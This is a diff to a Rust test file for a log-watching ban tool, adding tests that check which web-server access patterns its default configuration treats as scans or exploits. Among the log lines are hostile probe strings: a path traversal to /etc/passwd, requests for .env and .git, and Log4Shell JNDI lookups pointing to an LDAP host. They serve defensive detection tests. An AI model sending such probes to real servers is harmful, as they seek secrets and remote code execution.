@@ -1,5 +1,5 @@
-//! Who is not to be banned by the configuration as it comes: those who merely look whether ssh answers. And that this
-//! lets nobody attack.
+//! Who is not to be banned by the configuration as it comes: those who merely look whether ssh answers, and visitors of
+//! web servers. And that this lets nobody attack.
 
 #![allow(clippy::unwrap_used, clippy::indexing_slicing)] // a test may panic
 
@@ -22,6 +22,11 @@ fn check(program: &str, lines: &[&str], every: u32, seconds: u32, want: &[&str])
             writeln!(log, "{time} host {program}[{}]: {line}", 1000 + second).unwrap();
         }
     }
+    assert_eq!(bans(&log), want, "{lines:?} every {every} s");
+}
+
+/// What the configuration as it comes makes of a log: the jails that ban somebody, and on which ports.
+fn bans(log: &str) -> Vec<String> {
     let directory = tempfile::tempdir().unwrap();
     let file = |name, text| {
         let path = directory.path().join(name);
@@ -30,7 +35,7 @@ fn check(program: &str, lines: &[&str], every: u32, seconds: u32, want: &[&str])
     };
     let output = Command::new(env!("CARGO_BIN_EXE_banstream"))
         .args(["replay", "--json", "--config"])
-        .args([file("banstream.toml", "grammar-directory = '/nonexistent'\n"), file("log", &log)])
+        .args([file("banstream.toml", "grammar-directory = '/nonexistent'\n"), file("log", log)])
         .output()
         .unwrap();
     assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
@@ -42,7 +47,7 @@ fn check(program: &str, lines: &[&str], every: u32, seconds: u32, want: &[&str])
         .map(|ban| format!("{} {}", ban["jail"].as_str().unwrap(), ban["ports"]))
         .collect();
     bans.dedup();
-    assert_eq!(bans, want, "{lines:?} every {every} s");
+    bans
 }
 
 #[test]
@@ -86,4 +91,100 @@ fn whoever_abuses_ssh_is_shut_out_of_ssh_for_a_while() {
 #[test]
 fn whoever_guesses_passwords_is_shut_out_of_everything() {
     check("sshd", &["Failed password for root from 192.0.2.9 port 4002 ssh2"], 60, 300, &["sshd []"]);
+}
+
+/// Replays these requests, one a second, as `program` logs them: `USER "REQUEST" STATUS "REFERER" "AGENT"`.
+#[track_caller]
+fn web(requests: &[&str], want: &[&str]) {
+    for program in ["nginx", "apache2"] {
+        let log: String = (0..)
+            .zip(requests)
+            .map(|(second, request)| {
+                let (user, rest) = request.split_once(' ').unwrap();
+                format!(
+                    "2026-11-28T00:00:{second:02}+00:00 host {program}[7]: 192.0.2.1 - {user} \
+                     [28/Nov/2026:00:00:{second:02} +0000] {rest}\n"
+                )
+            })
+            .collect();
+        assert_eq!(bans(&log), want, "{program}: {requests:?}");
+    }
+}
+
+#[test]
+fn a_client_that_has_logged_in_may_ask_for_anything() {
+    web(
+        &[
+            r#"alice "PROPFIND /dav/alice/.DS_Store HTTP/1.1" 404 153 "-" "WebDAVFS/3.0.0""#,
+            r#"alice "PUT /dav/alice/a/.git/index HTTP/1.1" 201 153 "-" "x""#,
+            r#"alice "GET /dav/alice/b/.ssh/known_hosts HTTP/1.1" 404 153 "-" "x""#,
+            r#"alice "GET /dav/alice/c/.env HTTP/1.1" 404 153 "-" "x""#,
+        ],
+        &[],
+    );
+}
+
+#[test]
+fn a_reader_a_page_with_holes_and_an_old_session_are_no_scans() {
+    let forge = |path: &str| format!(r#"- "GET /alice/x/src/branch/main/{path} HTTP/2.0" 200 9 "-" "x""#);
+    let forge =
+        [".gitignore", ".github/workflows/ci.yml", ".env.example", ".git", ".vscode/x", ".env"].map(forge);
+    web(&forge.each_ref().map(String::as_str), &[]);
+    web(
+        &[
+            r#"- "GET /wp-content/uploads/a.jpg HTTP/2.0" 404 9 "-" "x""#,
+            r#"- "GET /wp-admin/b.css HTTP/2.0" 404 9 "https://a.example/" "x""#,
+            r#"- "GET /wp-login.php HTTP/2.0" 404 9 "https://a.example/" "x""#,
+            r#"- "GET /old/page.aspx HTTP/2.0" 404 9 "-" "x""#,
+            r#"- "GET /static/config.json HTTP/2.0" 404 9 "-" "x""#,
+        ],
+        &[],
+    );
+    web(
+        &[
+            r#"- "GET /System/Configuration HTTP/2.0" 401 9 "-" "x""#,
+            r#"- "GET /api/admin/settings HTTP/2.0" 403 9 "-" "x""#,
+            r#"- "POST /api/items HTTP/2.0" 401 9 "-" "x""#,
+            r#"- "POST /api/token HTTP/2.0" 401 9 "-" "x""#,
+            r#"- "PUT /api/items/1 HTTP/2.0" 401 9 "-" "x""#,
+            r#"- "GET /admin/users HTTP/2.0" 401 9 "-" "x""#,
+        ],
+        &[],
+    );
+}
+
+#[test]
+fn one_wrong_link_is_one_name_however_often_it_is_followed() {
+    let wrong = r#"- "GET /.env?x HTTP/2.0" 404 9 "-" "x""#;
+    web(&[wrong; 9], &[]);
+}
+
+#[test]
+fn no_page_gets_its_viewers_banned_nor_who_follows_its_links() {
+    web(
+        &[
+            r#"- "GET /.env HTTP/2.0" 404 9 "https://evil.example/" "x""#,
+            r#"- "GET /.git/x HTTP/2.0" 404 9 "https://evil.example/" "x""#,
+            r#"- "GET /?../../etc/passwd HTTP/2.0" 404 9 "https://evil.example/" "x""#,
+            r#"- "GET /phpmyadmin/ HTTP/2.0" 404 9 "https://evil.example/" "x""#,
+            r#"- "GET /?${jndi:ldap://x} HTTP/2.0" 404 9 "https://evil.example/" "x""#,
+        ],
+        &[],
+    );
+    let links =
+        ["a", "b", "c", "d"].map(|name| format!(r#"- "GET /?{name}=/.env HTTP/1.1" 404 9 "-" "bot""#));
+    web(&links.each_ref().map(String::as_str), &[]);
+}
+
+#[test]
+fn who_asks_for_three_names_and_is_gone_is_a_scanner() {
+    web(
+        &[
+            r#"- "GET /wp-login.php HTTP/1.1" 404 9 "-" "Mozilla/5.0""#,
+            r#"- "GET /admin.php HTTP/1.1" 404 9 "-" "Mozilla/5.0""#,
+            r#"- "GET /administrator/ HTTP/1.1" 404 9 "-" "Mozilla/5.0""#,
+        ],
+        &["http-probe []"],
+    );
+    web(&[r#"- "GET / HTTP/1.1" 200 9 "-" "${jndi:ldap://203.0.113.9/a}""#; 3], &["http-exploit []"]);
 }
